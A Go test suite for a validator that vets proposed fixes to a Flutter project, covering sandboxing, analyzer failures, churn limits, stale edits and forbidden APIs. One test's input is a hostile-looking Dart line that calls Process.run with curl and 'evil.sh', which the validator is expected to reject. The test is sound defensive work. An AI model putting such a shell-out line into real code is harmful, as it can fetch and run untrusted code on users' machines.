package validator

import (
	"context"
	"os"
	"path/filepath"
	"runtime"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"

	"github.com/oraflow/mend/api/schemas"
	"github.com/oraflow/mend/internal/config"
)

const statelessSource = `import 'package:flutter/material.dart';

class CounterLabel extends StatelessWidget {
  final int count;
  const CounterLabel({super.key, required this.count});

  @override
  Widget build(BuildContext context) {
    return Text('count: $count')
  }
}
`

func writeProject(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(root, "lib"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, "lib", "counter_label.dart"), []byte(statelessSource), 0o644))
	// Trees the sandbox must not copy.
	require.NoError(t, os.MkdirAll(filepath.Join(root, ".git"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, ".git", "HEAD"), []byte("ref: x"), 0o644))
	require.NoError(t, os.MkdirAll(filepath.Join(root, "build"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, "build", "artifact.bin"), []byte("x"), 0o644))
	return root
}

// passingAnalyzer returns an argv that always succeeds on this platform.
func passingAnalyzer(t *testing.T) []string {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("analyzer subprocess tests are unix-only")
	}
	return []string{"true"}
}

func failingAnalyzer() []string {
	return []string{"sh", "-c", "echo 'lib/counter_label.dart:9: error: expected ;' >&2; exit 1"}
}

func testValidatorConfig(analyzer []string) config.ValidatorConfig {
	return config.ValidatorConfig{
		MaxChurnRatio:   0.5,
		AnalyzerCommand: analyzer,
		AnalyzerTimeout: 30 * time.Second,
	}
}

func fixProposal(edits ...schemas.Edit) *schemas.FixProposal {
	return &schemas.FixProposal{
		ID:          "prop-1",
		IncidentKey: schemas.ErrorKey{File: "lib/counter_label.dart", Line: 9},
		Explanation: "Add the missing semicolon.",
		Edits:       edits,
		CreatedAt:   time.Now(),
	}
}

func semicolonEdit() schemas.Edit {
	return schemas.Edit{
		File:      "lib/counter_label.dart",
		StartLine: 9,
		OldText:   "    return Text('count: $count')",
		NewText:   "    return Text('count: $count');",
	}
}

func TestValidate_AcceptsCleanProposal(t *testing.T) {
	t.Parallel()
	root := writeProject(t)
	v := New(zaptest.NewLogger(t), testValidatorConfig(passingAnalyzer(t)), root)

	p := fixProposal(semicolonEdit())
	require.NoError(t, v.Validate(context.Background(), p))
	assert.True(t, p.Validated)
	assert.Empty(t, p.RejectionReason)

	// The real tree is untouched.
	raw, err := os.ReadFile(filepath.Join(root, "lib", "counter_label.dart"))
	require.NoError(t, err)
	assert.Equal(t, statelessSource, string(raw))
}

func TestValidate_RejectsOnAnalyzerFailure(t *testing.T) {
	t.Parallel()
	if runtime.GOOS == "windows" {
		t.Skip("analyzer subprocess tests are unix-only")
	}
	root := writeProject(t)
	v := New(zaptest.NewLogger(t), testValidatorConfig(failingAnalyzer()), root)

	p := fixProposal(semicolonEdit())
	require.NoError(t, v.Validate(context.Background(), p))
	assert.True(t, p.Rejected())
	assert.Contains(t, p.RejectionReason, "static analysis failed")
	assert.Contains(t, p.RejectionReason, "expected ;")
}

func TestValidate_RejectsForbiddenAPI(t *testing.T) {
	t.Parallel()
	root := writeProject(t)
	v := New(zaptest.NewLogger(t), testValidatorConfig(passingAnalyzer(t)), root)

	edit := semicolonEdit()
	edit.NewText = "    Process.run('curl', ['evil.sh']);"
	p := fixProposal(edit)
	require.NoError(t, v.Validate(context.Background(), p))
	assert.True(t, p.Rejected())
	assert.Contains(t, p.RejectionReason, "Process.run")
}

func TestValidate_ExtraBlacklist(t *testing.T) {
	t.Parallel()
	root := writeProject(t)
	cfg := testValidatorConfig(passingAnalyzer(t))
	cfg.ExtraBlacklist = []string{"debugPrint"}
	v := New(zaptest.NewLogger(t), cfg, root)

	edit := semicolonEdit()
	edit.NewText = "    debugPrint('count');"
	p := fixProposal(edit)
	require.NoError(t, v.Validate(context.Background(), p))
	assert.True(t, p.Rejected())
	assert.Contains(t, p.RejectionReason, "debugPrint")
}

func TestValidate_RejectsHighChurn(t *testing.T) {
	t.Parallel()
	root := writeProject(t)
	v := New(zaptest.NewLogger(t), testValidatorConfig(passingAnalyzer(t)), root)

	edit := semicolonEdit()
	edit.NewText = "    return const SizedBox.shrink();"
	p := fixProposal(edit)
	require.NoError(t, v.Validate(context.Background(), p))
	assert.True(t, p.Rejected())
	assert.Contains(t, p.RejectionReason, "replaces")
}

func TestValidate_RejectsSetStateInStatelessWidget(t *testing.T) {
	t.Parallel()
	root := writeProject(t)
	v := New(zaptest.NewLogger(t), testValidatorConfig(passingAnalyzer(t)), root)

	// Keep most tokens so the churn check passes and the shape check is
	// what fires.
	edit := semicolonEdit()
	edit.NewText = "    return Text('count: $count'); setState(() {});"
	p := fixProposal(edit)
	require.NoError(t, v.Validate(context.Background(), p))
	assert.True(t, p.Rejected())
	assert.Contains(t, p.RejectionReason, "setState")
}

func TestValidate_RejectsStateManagementConflict(t *testing.T) {
	t.Parallel()
	root := writeProject(t)
	v := New(zaptest.NewLogger(t), testValidatorConfig(passingAnalyzer(t)), root)

	edit := semicolonEdit()
	edit.NewText = "    return Text('count: $count'); // import 'package:flutter_bloc/flutter_bloc.dart';"
	p := fixProposal(edit)
	require.NoError(t, v.Validate(context.Background(), p))
	assert.True(t, p.Rejected())
	assert.Contains(t, p.RejectionReason, "state management")
}

func TestValidate_RejectsStaleEdit(t *testing.T) {
	t.Parallel()
	root := writeProject(t)
	v := New(zaptest.NewLogger(t), testValidatorConfig(passingAnalyzer(t)), root)

	edit := semicolonEdit()
	edit.OldText = "    return Text('count: ${widget.count}')" // Not what the file says.
	p := fixProposal(edit)
	require.NoError(t, v.Validate(context.Background(), p))
	assert.True(t, p.Rejected())
	assert.Contains(t, p.RejectionReason, "stale edit")
}

func TestValidate_RejectsOutOfRangeEdit(t *testing.T) {
	t.Parallel()
	root := writeProject(t)
	v := New(zaptest.NewLogger(t), testValidatorConfig(passingAnalyzer(t)), root)

	edit := semicolonEdit()
	edit.StartLine = 500
	edit.EndLine = 500
	p := fixProposal(edit)
	require.NoError(t, v.Validate(context.Background(), p))
	assert.True(t, p.Rejected())
	assert.Contains(t, p.RejectionReason, "targets line")
}

func TestSandbox_SkipsGeneratedTrees(t *testing.T) {
	t.Parallel()
	root := writeProject(t)

	sb, err := newSandbox(zaptest.NewLogger(t), root)
	require.NoError(t, err)
	defer sb.Remove()

	_, err = os.Stat(filepath.Join(sb.root, "lib", "counter_label.dart"))
	assert.NoError(t, err)
	_, err = os.Stat(filepath.Join(sb.root, ".git"))
	assert.True(t, os.IsNotExist(err))
	_, err = os.Stat(filepath.Join(sb.root, "build"))
	assert.True(t, os.IsNotExist(err))
}

func TestCheckChurn_PureInsertionAllowed(t *testing.T) {
	t.Parallel()

	reason := checkChurn([]schemas.Edit{{
		File:      "lib/a.dart",
		StartLine: 1,
		OldText:   "",
		NewText:   "import 'dart:async';",
	}}, 0.5)
	assert.Empty(t, reason)
}
